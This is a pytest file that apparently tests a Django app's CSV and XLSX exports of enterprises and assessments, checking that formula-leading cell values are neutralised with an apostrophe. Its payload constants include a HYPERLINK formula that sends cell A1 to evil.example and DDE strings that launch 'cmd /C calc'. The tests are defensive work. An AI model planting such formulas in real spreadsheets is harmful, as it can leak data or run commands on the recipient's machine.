"""Exports never carry live formulas: the CSV of enterprises and the XLSX of assessments, opened
as a spreadsheet would open them, with the classic CSV-injection payloads in their texts."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from ovop.accounts.models import User
from ovop.core.exports import csv_row, neutralise, xlsx_row
from ovop.enterprises import selectors
from ovop.rating import services as rating_services
from ovop.regions.models import Region
from tests.conftest import login
from tests.factories import EnterpriseFactory, ProductFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
MINUS = '-1+HYPERLINK("http://evil.example/","x")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
PAYLOADS = [HYPERLINK, MINUS, PLUS, AT, TAB, RETURN]


@pytest.fixture(autouse=True)
def english(settings: Any) -> Iterator[None]:
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_gets_an_apostrophe(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["+6281234500001", "-5", "-12.5", "Getas =1+1", "", "Kopi", 7, None, 2.5]
)
def test_plain_numbers_texts_and_non_texts_are_left_alone(value: Any) -> None:
    assert neutralise(value) == value
    assert csv_row([value]) == [value]


def test_a_number_with_anything_after_it_is_neutralised() -> None:
    assert neutralise("+62 812 3456") == "'+62 812 3456"
    assert neutralise("-1-1") == "'-1-1"


def test_xlsx_cells_are_strings_never_formulas() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*PAYLOADS, "=1+1", 3, None]))
    out = io.BytesIO()
    workbook.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]  # type: ignore[union-attr]
    assert [c.data_type for c in cells[:7]] == ["s"] * 7
    values = [c.value for c in cells[:7]]
    values[5] = values[5].replace("\n", "\r")  # type: ignore[union-attr]  # XML reads \r as \n
    assert values == ["'" + p for p in [*PAYLOADS, "=1+1"]]
    assert (cells[7].value, cells[7].data_type) == (3, "n")


def test_the_enterprise_csv_carries_no_live_formula(
    client: Client, officer: User, village_a: Region
) -> None:
    EnterpriseFactory(
        name=HYPERLINK,
        owner_name=MINUS,
        village=village_a,
        address=PLUS,
        email=AT,
        phone="+6281234500001",
        kbli="10761",
    )
    login(client, officer)
    response = client.get(reverse("enterprises:export"))
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    _header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    columns = [*selectors.EXPORT_COLUMNS, *selectors.PRIVATE_EXPORT_COLUMNS]
    cells = dict(zip(columns, row, strict=True))
    assert cells["name"] == "'" + HYPERLINK
    assert cells["owner_name"] == "'" + MINUS
    assert cells["address"] == "'" + PLUS
    assert cells["email"] == "'" + AT
    assert cells["phone"] == "+6281234500001"  # a number, not a formula: as it was
    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != cells["phone"]]


def test_the_assessment_xlsx_carries_no_live_formula(
    client: Client, officer: User, assessor: User, village_a: Region
) -> None:
    enterprise = EnterpriseFactory(name=PLUS, owner_name="Bu Ani", village=village_a)
    product = ProductFactory(enterprise=enterprise, name=HYPERLINK)
    scheme = {s.code: s for s in rating_services.scheme_install_fixtures()}["kemenperin-ovop"]
    assessment = rating_services.assessment_invite(
        user=officer, product=product, scheme=scheme, assessor=assessor
    )
    rating_services.assessment_save(
        user=assessor, assessment=assessment, answers={}, evidence=MINUS, finalise=False
    )
    login(client, officer)
    response = client.get(reverse("rating:export"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    sheet = workbook.worksheets[0]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    row = {h: c for h, c in zip(header, next(sheet.iter_rows(min_row=2)), strict=True)}
    assert row["Product"].value == "'" + HYPERLINK
    assert row["Enterprise"].value == "'" + PLUS
    assert row["Evidence note"].value == "'" + MINUS
    assert (row["Assessment"].value, row["Assessment"].data_type) == (assessment.pk, "n")
    formulas = [
        c.coordinate
        for s in workbook.worksheets
        for r in s.iter_rows()
        for c in r
        if c.data_type == "f"
    ]
    assert formulas == []
    assert [c.data_type for c in row.values() if isinstance(c.value, str)] == ["s"] * sum(
        isinstance(c.value, str) for c in row.values()
    )
